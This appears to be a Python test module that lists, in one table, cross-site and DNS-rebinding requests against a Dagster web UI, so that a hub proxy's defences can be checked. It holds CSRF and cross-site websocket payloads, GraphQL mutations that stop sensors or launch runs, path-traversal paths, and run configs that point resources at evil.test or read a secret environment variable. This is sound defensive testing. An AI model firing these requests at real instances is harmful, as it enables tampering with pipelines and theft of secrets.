"""What a stranger's page, or a stranger in the network, may send to the web UI: one table.

`plain` is what the request achieves at Dagster's own webserver. Tests send each request to it and to the hub's, directly and
through the proxy example. docs/security.md has the table (`python -m rsu_pipeline_tests.docs.attacks` writes it there).

In texts `$SENSOR` is the id of a sensor that is on, `$RUN` that of a run, `$HOST` and `$ORIGIN` are the UI's own.
"""

import json
from dataclasses import dataclass, field
from typing import Literal
from urllib.parse import quote

Plain = Literal["changes", "reads", "nothing"]
CHANGES: Plain = "changes"
"""The state of the hub is another one."""
READS: Plain = "reads"
"""The answer holds what only the UI's page should see. Whether a browser gives it to the page is another question."""
NOTHING: Plain = "nothing"

PRINTED = "printed by a run"
REVEALING = (b"dagster_version", b"__NEXT_DATA__", b"\x1f\x8b", PRINTED.encode())
"""One of these is in an answer that reveals something: to a question, a page, a debug file, what a run printed."""
NEVER = (
    "mutation { reportRunlessAssetEvents(eventParams: {eventType: ASSET_MATERIALIZATION, assetKey: {path:"
    ' ["fleet_health"]}}) { __typename } }'
)
PASSED = (
    'mutation { reportAssetCheckEvaluations(eventParams: {assetKey: {path: ["fleet_health"]}, checkName: "x",'
    " passed: true}) { __typename } }"
)
READ = "{ version instance { hasInfo } dagster_version: version }"
STOP = 'mutation { stopSensor(id: "$SENSOR") { __typename } }'
CONFIG = "runConfigData: "
LAUNCH = (
    'mutation { launchRun(executionParams: {selector: {repositoryLocationName: "rsu_pipeline", repositoryName:'
    ' "__repository__", jobName: "check_fleet"}, mode: "default", runConfigData: "{}"}) { __typename } }'
)
TWO = f"query harmless {READ} mutation harm {STOP.removeprefix('mutation ')}"
IN_URL = f"/graphql?query={quote(STOP, safe='$')}"
EVIL = "https://evil.test"
JSON = "application/json"


def launch(config: object) -> str:
    """Return a launch with this run config."""
    return LAUNCH.replace(f'{CONFIG}"{{}}"', CONFIG + json.dumps(json.dumps(config)))


def body(document: str) -> str:
    """Return a document as Dagster's page sends it."""
    return json.dumps({"query": document})


def start(document: str) -> str:
    """Return the same over a websocket."""
    return json.dumps({"id": "1", "type": "start", "payload": {"query": document}})


@dataclass(frozen=True)
class Attack:
    """A request. Host is the UI's own unless given. `messages` are sent over a websocket after its handshake."""

    name: str
    plain: Plain
    method: str = "POST"
    path: str = "/graphql"
    headers: tuple[tuple[str, str], ...] = ()
    body: str = ""
    host: str = "$HOST"
    messages: tuple[str | bytes, ...] = field(default=())

    @property
    def is_websocket(self) -> bool:
        return self.method == "WEBSOCKET"


def post(name: str, plain: Plain, content_type: str | None, text: str, **headers: str) -> Attack:
    """Return a POST to /graphql."""
    return Attack(name, plain, headers=_headers(content_type, headers), body=text)


def get(name: str, plain: Plain, path: str, *, method: str = "GET", host: str = "$HOST", **headers: str) -> Attack:
    return Attack(name, plain, method, path, _headers(None, headers), host=host)


def socket(name: str, plain: Plain, *messages: str | bytes, host: str = "$HOST", **headers: str) -> Attack:
    init = '{"type": "connection_init"}'
    return Attack(name, plain, "WEBSOCKET", "/graphql", _headers(None, headers), host=host, messages=(init, *messages))


def _headers(content_type: str | None, named: dict[str, str]) -> tuple[tuple[str, str], ...]:
    own = (("Content-Type", content_type),) if content_type is not None else ()
    return own + tuple((name.replace("_", "-"), value) for name, value in named.items())


CROSS = {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "no-cors", "Sec_Fetch_Dest": "image"}
LINK = {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate", "Sec_Fetch_Dest": "document"}

ATTACKS = (
    # Origins.
    post("JSON from another site", CHANGES, JSON, body(STOP), Origin=EVIL),
    post("JSON from a page without an origin of its own (sandboxed frame)", CHANGES, JSON, body(STOP), Origin="null"),
    post("JSON from another port of the same name", CHANGES, JSON, body(STOP), Origin="$SCHEME://localhost:9"),
    post("JSON from a name that begins as ours", CHANGES, JSON, body(STOP), Origin="$ORIGIN.evil.test"),
    post("JSON from our name without, or with, TLS", CHANGES, JSON, body(STOP), Origin="$OTHERSCHEME://$HOST"),
    post("JSON from a site beside ours, by the browser's word", CHANGES, JSON, body(STOP), Sec_Fetch_Site="same-site"),
    Attack(
        "JSON with two origins, ours first",
        CHANGES,
        headers=(("Content-Type", JSON), ("Origin", "$ORIGIN"), ("Origin", EVIL)),
        body=body(STOP),
    ),
    post("a launch from another site", CHANGES, JSON, body(LAUNCH), Origin=EVIL),
    post("a question from another site", READS, JSON, body(READ), Origin=EVIL),
    # Run configs, as our own page could send them.
    *(
        post(f"a launch whose config {what}", NOTHING, JSON, body(launch(config)), Origin="$ORIGIN")
        for what, config in (
            ("has another address of RunSignup", {"resources": {"runsignup": {"config": {"base_url": EVIL}}}}),
            ("has another database", {"resources": {"warehouse": {"config": {"url": "postgresql://evil.test/x"}}}}),
            ("reads the environment", {"ops": {"fleet_health": {"config": {"x": {"env": "RSU_SECRET_KEY"}}}}}),
        )
    ),
    # What a page may send to anybody without asking.
    Attack("a form, document in the URL", CHANGES, "POST", IN_URL, _headers("application/x-www-form-urlencoded", {})),
    Attack(
        "a form with files, document in the URL",
        CHANGES,
        "POST",
        IN_URL,
        _headers("multipart/form-data; boundary=x", {"Origin": EVIL}),
        "--x--\r\n",
    ),
    Attack("plain text, document in the URL", CHANGES, "POST", IN_URL, _headers("text/plain", {}), "x"),
    Attack("no content type, document in the URL", CHANGES, "POST", IN_URL, _headers(None, {"Origin": EVIL})),
    post("JSON called plain text", NOTHING, "text/plain", body(STOP)),
    post(
        "JSON called plain text, with JSON's name as a parameter", CHANGES, "text/plain; application/json", body(STOP)
    ),
    post("a GraphQL document as such", CHANGES, "application/graphql", STOP),
    post("a batch of two documents", NOTHING, JSON, f"[{body(STOP)}, {body(STOP)}]", Origin="$ORIGIN"),
    # GET.
    get("an image whose address stops a sensor", CHANGES, IN_URL, **CROSS),
    get("the same from a browser that names no site", CHANGES, IN_URL),
    get("the same from a site beside ours", CHANGES, IN_URL, Sec_Fetch_Site="same-site"),
    get("a link that stops a sensor", CHANGES, IN_URL, **LINK),
    get("an image whose address launches a run", CHANGES, f"/graphql?query={quote(LAUNCH)}", **CROSS),
    get(
        "a query and a mutation, of which the URL chooses the second",
        CHANGES,
        f"/graphql?query={quote(TWO, safe='$')}&operationName=harm",
    ),
    get(
        "a query and a mutation in two parameters", CHANGES, f"/graphql?query={quote(READ)}&{IN_URL.partition('?')[2]}"
    ),
    get("the path in other letters", CHANGES, IN_URL.replace("/graphql", "/%67raphql")),
    get("HEAD with a mutation", NOTHING, IN_URL, method="HEAD"),
    get("a script whose address is a question", READS, f"/graphql?query={quote(READ)}", **CROSS),
    get("a question by a page of another site", READS, f"/graphql?query={quote(READ)}", Origin=EVIL),
    # Names (DNS rebinding).
    get("a page under a stranger's name", READS, "/", host="evil.test", Sec_Fetch_Site="same-origin"),
    get("a question under a stranger's name", READS, f"/graphql?query={quote(READ)}", host="evil.test"),
    Attack(
        "a change by a page under a stranger's name",
        CHANGES,
        headers=_headers(JSON, {"Origin": "$SCHEME://evil.test", "Sec_Fetch_Site": "same-origin"}),
        body=body(STOP),
        host="evil.test",
    ),
    get("a name that begins as ours", READS, f"/graphql?query={quote(READ)}", host="127.0.0.1.evil.test"),
    get("a name that ends with ours", READS, f"/graphql?query={quote(READ)}", host="evil-$HOST"),
    get("our name before a stranger's", READS, f"/graphql?query={quote(READ)}", host="$HOST@evil.test"),
    get("an address of the network", READS, f"/graphql?query={quote(READ)}", host="10.9.8.7"),
    get(
        "a stranger's name that claims to be forwarded from the hub's",
        READS,
        f"/graphql?query={quote(READ)}",
        host="evil.test",
        X_Forwarded_Host="$HOST",
        Forwarded="host=$HOST",
    ),
    # Other endpoints.
    Attack("a materialization that never was", CHANGES, "POST", "/report_asset_materialization/fleet_health"),
    Attack(
        "the same by JSON of our page",
        CHANGES,
        "POST",
        "/report_asset_materialization/fleet_health",
        _headers(JSON, {"Origin": "$ORIGIN"}),
        "{}",
    ),
    Attack(
        "a check that never ran",
        CHANGES,
        "POST",
        "/report_asset_check/fleet_health?check_name=x&passed=true",
        _headers(None, {"Origin": EVIL}),
    ),
    Attack("an observation that never was", CHANGES, "POST", "/report_asset_observation/fleet_health?data_version=9"),
    post(
        "a materialization that never was, by GraphQL of our page",
        CHANGES,
        JSON,
        body(NEVER),
        Origin="$ORIGIN",
    ),
    post("a check that never ran, by GraphQL of our page", CHANGES, JSON, body(PASSED), Origin="$ORIGIN"),
    get("a run's debug file by a page of another site", READS, "/download_debug/$RUN", **CROSS),
    get("a link to a run's debug file", READS, "/download_debug/$RUN", **LINK),
    get("what a run printed, by a page of another site", READS, "/logs/$RUN/compute_logs/x/out", **CROSS),
    get("a file beside the logs", NOTHING, "/logs/..%2f..%2fsecret/key", Sec_Fetch_Site="same-origin"),
    get("a notebook of the code server", NOTHING, "/notebook?path=/etc/x.ipynb&repoLocName=rsu_pipeline"),
    get("versions, by a page of another site", READS, "/server_info", Origin=EVIL),
    # Verbs.
    get("the question before a cross-site POST", NOTHING, "/graphql", method="OPTIONS", Origin=EVIL),
    *(get(f"{verb} with a mutation", NOTHING, IN_URL, method=verb) for verb in ("PUT", "PATCH", "DELETE", "TRACE")),
    # Websockets.
    socket("a websocket of another site", READS, Origin=EVIL),
    socket("a websocket of a page without an origin of its own", READS, Origin="null"),
    socket("a websocket of a site beside ours", READS, Origin="$ORIGIN", Sec_Fetch_Site="same-site"),
    socket("a websocket under a stranger's name", READS, host="evil.test", Origin="$SCHEME://evil.test"),
    socket("a mutation over our page's websocket", NOTHING, start(STOP), Origin="$ORIGIN"),
    socket("a query over our page's websocket", NOTHING, start(READ), Origin="$ORIGIN"),
    socket("no JSON over our page's websocket", NOTHING, "{", Origin="$ORIGIN"),
    socket("bytes over our page's websocket", NOTHING, b"\x00", Origin="$ORIGIN"),
)
